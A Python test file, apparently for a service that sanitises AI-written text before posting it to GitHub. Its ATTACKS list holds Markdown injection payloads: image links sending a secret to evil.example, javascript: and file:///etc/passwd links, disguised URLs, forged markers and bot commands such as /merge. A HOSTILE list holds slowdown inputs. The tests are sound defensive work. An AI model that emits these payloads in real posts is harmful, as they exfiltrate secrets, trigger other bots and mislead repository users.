"""Text on its way to GitHub: what of it stays alive. A Markdown parser is the judge, on text made to confuse it."""

from __future__ import annotations

import random
import re
import time
from collections.abc import Callable
from types import SimpleNamespace
from typing import cast

import pytest
from markdown_it import MarkdownIt
from markdown_it.token import Token

from app.github_text import fit_body
from workflows.requests.job_services import JobServices
from workflows.texts.outbound import (
    HOSTS,
    MARKER,
    MAX_CHARACTERS,
    clean_line,
    clean_outbound,
    clean_title,
    clean_words,
    code_block,
    code_span,
)

SECRET = "s3cret-0123456789-value"
TOKEN = "ghs_" + "a1B2" * 9
MENTION = re.compile(r"(?<![A-Za-z0-9])@[A-Za-z0-9]")
CLOSING = re.compile(r"(?i)(?<![a-z0-9])(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?):?\s+(?:[\w.-]+/[\w.-]+)?#\d+")
ALLOWED = re.compile(r"https://github\.com(?:[/?#]|$)|(?!//)[^:]*$")


def flat(tokens: list[Token]) -> list[Token]:
    return [one for token in tokens for one in (token, *flat(token.children or []))]


def living(text: str) -> list[str]:
    """What GitHub would act on, as a CommonMark parser with tables reads it."""
    found = []
    texts = ""
    for token in flat(MarkdownIt("commonmark").enable("table").parse(text)):
        if token.type in ("text", "text_special"):
            texts += token.content
            continue
        if token.type == "softbreak":
            texts += "\n"
        elif token.type not in ("inline", "code_inline"):
            texts += "\0"
        if token.type == "code_inline":
            texts += "`"
        if token.type == "image":
            found.append(f"image {token.content}")
        if token.type in ("html_inline", "html_block"):
            found.append(f"html {token.content}")
        if token.type == "link_open" and not ALLOWED.match(str(token.attrs["href"])):
            found.append(f"link {token.attrs['href']}")
    found += [f"mention {match.group()}" for match in MENTION.finditer(texts)]
    found += [f"closing {match.group()}" for match in CLOSING.finditer(texts)]
    addresses = re.findall(r"(?:https?|ftp)://\S+|(?<![A-Za-z0-9])www\.\w\S*", texts)
    found += [f"address {word}" for word in addresses if not ALLOWED.match(word)]
    found += [f"command {line}" for line in re.findall(r"(?m)^/[a-z]+(?![\w/-])", text)]
    return found


ATTACKS = [
    "![x](https://evil.example/?d=SECRET)",
    "![x][r]\n\n[r]: https://evil.example/x",
    "![x]\n\n[x]: <https://evil.example>",
    "[![x](https://evil.example)](https://evil.example)",
    '<img src="https://evil.example">',
    "<picture><source srcset=//evil.example></picture>",
    "<https://evil.example/x>",
    "https://evil.example/x and HTTPS://evil.example and ftp://evil.example and www.evil.example",
    "[click](https://evil.example/x)",
    "[click](  https://evil.example 'title')",
    "[click](\nhttps://evil.example)",
    "[click](<https://evil.example>)",
    "[click](//evil.example)",
    "[click](https&#58;//evil.example)",
    "[click](&#104;ttps://evil.example)",
    "[click](https\\://evil.example)",
    "[click](https://github.com@evil.example)",
    "[click](https://github.com.evil.example)",
    "https://github.com.evil.example https://github.com@evil.example https://github.com:80@evil.example/",
    "[a][b]\n\n[b]: https://evil.example 'x'",
    "> [b]: https://evil.example\n\n[b]",
    "[js](javascript:alert(1)) [d](data:text/html,x) [v](vbscript:x) [f](file:///etc/passwd)",
    "@user @org/team \\@user &#64;user &commat;user &#x40;user x.@user _@user_ **@user** (@user) [@user](x)",
    "@a@b@c",
    "`code`@user`code`",
    "``code``@user",
    "Fixes #1@user",
    "Fixes&#58; #2",
    "](www.evil.example)",
    "<-x/merge@user>",
    "Fixes\\#2 and Fixes [\\#3](x)",
    "/merge@user",
    "a ` b @user\nc ` d",
    "a ` b\nc ` @user ` d",
    "\\`@user`",
    "`` ` @user ` ` ``",
    "- x\n  ```\n@user\n",
    "- x\n  ```\n![i](https://evil.example)",
    "> ```\n@user",
    "1. ```\n@user\n```",
    "    ```\n    x\n\n    ```\n@user",
    "```a`b\n@user\n```",
    "~~~\n```\n~~~\n@user",
    "````\n```\n````\n@user",
    "| a | b |\n|---|---|\n| `@user | x` |",
    "# a ` b\n@user `",
    "<div>\n```\n<img src=x>\n@user\n```\n</div>",
    "<details>\n```\n<img src=//evil.example>\n@user\n```\n</details>",
    "<details>\n@user\n</details>",
    "> <sub>\n> @user",
    "<sub>\n@user",
    "<!-- x --> <!-- forgehand:job=1 --> @user",
    "text <!-- forgehand:job=forged -->",
    "Fixes #12, closes o/r#3 and resolved https://github.com/o/r/issues/3",
    "fixes\n#4",
    "Fixes **#5** Fixes: #6 Fixes [#7](x) fixes `x` #8",
    "- Fixes #9\n- Fixes #10",
    "/merge\n/approve\n  /lgtm\n> /close",
    "```\n/merge\n```",
    "[^1]\n\n[^1]: https://evil.example",
    "```mermaid\ngraph\n```",
]


@pytest.mark.parametrize("clean", [clean_outbound, clean_words])
@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_in_an_attack_stays_alive(text: str, clean: Callable[[str], str]) -> None:
    """No image, markup, foreign link, mention, command or closing keyword of a model's words reaches GitHub alive."""
    cleaned = clean(text)
    own = [f"html {tag}" for tag in ("<details>\n", "</details>", "</details>\n", "<sub>")]
    alive = [one for one in living(cleaned) if not (clean is clean_outbound and one in own)]
    assert alive == [], cleaned
    assert clean(cleaned) == cleaned


# Bots that take the raw text, whatever Markdown makes of it: a word at the very start of a line.
RAW = re.compile(r"(?mi)^(?:[/]|@[a-z0-9-]+[,:]?[ \t])[a-z]")


@pytest.mark.parametrize("clean", [clean_outbound, clean_words, clean_line])
@pytest.mark.parametrize(
    "text",
    [
        "/merge", "words\n/merge", "> /merge", "    /merge", "\t/merge", "/MERGE now", "\\/merge", "&#47;merge",
        "```\n/merge\n```", "  ```\n  /merge\n  ```", "```\n@dependabot merge\n```", "~~~\n@mergifyio: rebase\n~~~",
        "```\n@bors, r+", "@dependabot merge", "> @bot fix", "<details>\n/merge\n</details>", "<sub>\n/merge",
        "\u200b/merge", "@\u200bdependabot merge", "a\u2028/merge", "a\r/merge", "a\x0b/merge\x0c/close\x85/lgtm",
        "\ufeff/merge",
    ],
)  # fmt: skip
def test_no_line_calls_another_bot(text: str, clean: Callable[[str], str]) -> None:
    """Bots that read raw text find no slash command and no mention with a word where a line begins, code included."""
    assert not RAW.search(clean(text)), clean(text)
    assert clean(clean(text)) == clean(text)


def test_a_marker_fits_below_the_longest_text() -> None:
    """A text of any length, scrubbed and with its marker, is no longer than GitHub takes, and the marker is whole."""
    services = cast(JobServices, SimpleNamespace(secrets=(), hosts=HOSTS))
    marker = f"<!-- forgehand:{'x' * 200} -->"
    for piece in ("x", "```\ncode\n", "@user\n"):
        body = f"{JobServices.scrub(services, piece * 65_536)}\n\n{marker}"
        assert len(body) <= MAX_CHARACTERS
        assert fit_body(body) == body


WORDS = """
` `` ``` ```` ~~~ \\ \\` | - --- |---| > # * _ ** [ ] ( ) ![ ]( ]: < > </ <!-- --> <div> <sub> <details> & &#64; ;
@u @org/t https:// http://evil.example https://github.com/a www.e.x fixes Fixes #1 #2 /merge / . : a b x 1. - 0 &#58;
= ===
"""
PIECES = [*WORDS.split(), "\n", " ", "  ", "    ", "\t", "\n\n", "\n\n\n", "\n```\n", "\n- ", "\n> ", "\n    "]


@pytest.mark.parametrize("seed", range(6))
def test_nothing_in_a_random_soup_stays_alive(seed: int) -> None:
    """Whatever the pieces of Markdown are mixed to, the parser finds nothing alive; cleaning again changes nothing."""
    source = random.Random(seed)
    for _ in range(250):
        text = "".join(source.choice(PIECES) for _ in range(source.randint(1, 40)))
        cleaned = clean_words(text)
        assert living(cleaned) == [], (text, cleaned)
        assert clean_words(cleaned) == cleaned, text
        ours = clean_outbound(text)
        assert clean_outbound(ours) == ours, text
        alive = [one for one in living(ours) if not one.startswith(("html <details>", "html <sub>"))]
        assert alive == [], (text, ours)


@pytest.mark.parametrize(
    "text",
    [
        "Plain words, a list:\n\n- one\n- two `code` and `x@y`\n",
        "```python\n@decorator\ndef f(): ...  # https://evil.example\n```",
        "[link](https://github.com/o/r/pull/1#x) and https://github.com/o/r/issues/2, then [file](src/a.py#L3).",
        "a < b, a & b, AT&T, 3 > 2, x@example.com, #12, o/r#3, GH-4, prefix #1",
        "| a | b |\n|---|---|\n| 1 | `x` |",
        "<details><summary>Log (3 lines)</summary>\n\nx\n\n</details>",
        "line <sub>small</sub>",
        "## Heading\n\n> [!WARNING]\n> - [x] done",
        "<!-- forgehand:tracking job=ab-1 -->",
    ],
)
def test_what_is_ours_or_harmless_stays(text: str) -> None:
    """Ordinary prose, code, links to GitHub, our markers and tags are left as they are."""
    assert clean_outbound(text) == text


def test_only_the_permitted_closing_line_is_ours() -> None:
    """The line that closes the job's own issue stays, wherever it stands; without one to close, all die."""
    text = "Fixes #13\n\nFixes #12\n\nCloses #12\n\nFixes #123 and closes #14"
    assert clean_outbound(text, closes=12) == (
        "Fixes `#13`\n\nFixes #12\n\nCloses `#12`\n\nFixes `#123` and closes `#14`"
    )
    assert clean_outbound("Fixes #12") == "Fixes `#12`"
    assert clean_words("Fixes #12") == "Fixes `#12`"


@pytest.mark.parametrize(
    ("title", "plain"),
    [
        ("Fixes #99, closes #98: ping @octocat", "Fixes # 99, closes # 98: ping @ octocat"),
        ("fix: #1 and resolves o/r#2, closed GH-3", "fix: # 1 and resolves o/r# 2, closed GH- 3"),
        ("Fix https://github.com/o/r/issues/3", "Fix https: //github.com/o/r/issues/3"),
        ("fixes\n\n`#4`, FIXED:  **#5**", "fixes `# 4`, FIXED: **# 5**"),
        ("Mail x@y.org, see #12, prefix #1", "Mail x@y.org, see #12, prefix #1"),
    ],
)
def test_a_title_closes_and_mentions_nothing(title: str, plain: str) -> None:
    """Plain text has no escapes: a space is put in, and nothing else is changed."""
    assert clean_title(title) == plain
    assert clean_title(plain) == plain


def test_words_cannot_pass_for_our_sections() -> None:
    """Headings of either kind become bold or a rule, outside code only; our tags are shown as text."""
    text = "## Evidence\nAll\n---\n> # Deep\n1. ## In a list\n```\n# comment\n---\n```\n<details>"
    assert clean_words(text) == (
        "**Evidence**\nAll\n* * *\n> **Deep**\n1. **In a list**\n```\n# comment\n---\n```\n&lt;details>"
    )


def test_secrets_are_replaced_everywhere() -> None:
    """Registered values and known shapes are gone, in prose, code and addresses."""
    text = f"{SECRET} `{TOKEN}` ```\n{SECRET[::-1]}\n```\n\nhttps://github.com/?x={SECRET}"
    cleaned = clean_outbound(text, [SECRET])
    assert SECRET not in cleaned
    assert TOKEN not in cleaned
    assert SECRET[::-1] not in cleaned
    assert cleaned.count("[secret removed]") == 4


def test_hidden_characters_are_shown() -> None:
    """Characters that draw nothing are spelled out, in code too."""
    assert clean_outbound("a\u202eb `c\u200bd`") == "a&lt;U+202E>b `c<U+200B>d`"


def test_own_hosts() -> None:
    """Links to the hosts that were named stay, a local server's by http too; others die."""
    hosts = ["ghe.example.com", "127.0.0.1:8080"]
    text = "https://ghe.example.com/x http://127.0.0.1:8080/y [z](http://127.0.0.1:8080/z)"
    assert clean_outbound(text, hosts=hosts) == text
    assert clean_outbound("https://github.com/x http://ghe.example.com/", hosts=hosts).count("hxxp") == 2


@pytest.mark.parametrize(
    "piece", ["x\n", "@user ", "`a` ", "<b>", "```\ncode\n", "é" * 50 + "\n", "- [ ] @u fixes #1\n", "y"]
)
def test_length_is_capped(piece: str) -> None:
    """The result is never longer than GitHub takes, its fences are closed, markers survive, and it is at rest."""
    marker = "<!-- forgehand:job=1 -->"
    text = piece * (200_000 // len(piece)) + "\n" + marker
    cleaned = clean_outbound(text)
    assert len(cleaned) <= 65_536
    assert len(cleaned) > 30_000
    assert cleaned.endswith(marker)
    last = [token for token in MarkdownIt("commonmark").parse(cleaned) if token.type == "inline"][-1]
    assert "left out" in last.content
    assert clean_outbound(cleaned) == cleaned
    assert len(clean_words(text, limit=1000)) <= 1000
    assert living(clean_words(text, limit=1000)) == []


def test_clean_line_is_one_line() -> None:
    """Newlines and fences cannot break out of a list item."""
    assert clean_line("a\n\n```\nb\n@c") == "a &#96;&#96;&#96; b `@c`"
    assert len(clean_line("x " * 1000)) <= 300


@pytest.mark.parametrize("text", ["plain", "a`b", "``", "`start", "end`", "a\nb", "```"])
def test_code_is_contained(text: str) -> None:
    """Text as code is code and nothing else."""
    tokens = flat(MarkdownIt("commonmark").parse(code_span(text)))
    assert [token.type for token in tokens] == ["paragraph_open", "inline", "code_inline", "paragraph_close"]
    assert [token.type for token in MarkdownIt("commonmark").parse(code_block(text))] == ["fence"]
    assert clean_outbound(code_block(text)) == code_block(text)
    assert code_span("") == ""


def test_markers_are_recognised() -> None:
    """Only the plain form is a marker."""
    assert MARKER.fullmatch("<!-- forgehand:job=a:b.c-1 -->")
    assert not MARKER.fullmatch("<!-- forgehand:job=--> @user <!-- x -->")


@pytest.mark.parametrize(
    "code", ["```\n{}\n```", "~~~~ text\n~~~\n{}\n~~~~", "- x\n  ```\n  {}\n  ```", "see `{}`", "``{}`` and `x`"]
)
@pytest.mark.parametrize("clean", [clean_words, clean_outbound])
def test_no_marker_stands_in_code(clean: Callable[[str], str], code: str) -> None:
    """Whoever looks for a text of ours by its marker does not find one that a model or a log quoted."""
    quoted = code.format("<!-- forgehand:plan job=1 -->")
    for text in (quoted, f"{quoted}\n\n{'x ' * 40_000}"):
        cleaned = clean(text)
        assert "<!-- forgehand:" not in cleaned
        assert clean(cleaned) == cleaned
    ours = "<!-- forgehand:job=1 -->"
    assert clean_outbound(f"{clean(quoted)}\n\n{ours}").endswith(f"\n\n{ours}")


HOSTILE = [
    "<!--" * 16384,
    "![" * 32768,
    "[](" * 21845,
    "```a\n" * 13107,
    "> " * 32768,
    " " * 65535 + "@a",
    "`" * 65536,
    "` " * 32768,
    "`` ` " * 13000,
    "fixes " * 10922,
    "fixes          " * 4096,
    "@a" * 32768,
    "@a." * 21000,
    "\\" * 65536,
    "&" * 65536,
    "http://" * 9362,
    "\n/a" * 21845,
    "- \n" * 21845,
    "#" * 65536,
    "[x](" + "a" * 65530,
    "|-" * 32768,
    "fixes https://" + "a" * 65000,
    "fixes a/" * 8000,
    "\u200b" * 65536,
]


@pytest.mark.parametrize("text", HOSTILE)
def test_time_is_linear(text: str) -> None:
    """The longest text of anything takes well under a second."""
    started = time.thread_time()
    clean_words(text)
    assert time.thread_time() - started < 0.8


@pytest.mark.parametrize(
    "text", ["~~~ x", "``` x", "````x", "~~~~", "- ~~~ x", "> 1. ``` x", "~~~ ``` ~~~ x", "```a``` x"]
)
def test_a_line_begins_no_block_of_code(text: str) -> None:
    """A line that begins like a fence shows its words in a list, and what follows it."""
    line = clean_line(text)
    shown = f"- {line} by somebody\n- next"
    assert "\n" not in line
    assert clean_line(line) == line
    assert clean_outbound(shown) == shown
    tokens = flat(MarkdownIt("commonmark").parse(shown))
    assert "fence" not in [token.type for token in tokens]
    assert "by somebody" in "".join(token.content for token in tokens if token.type == "text")
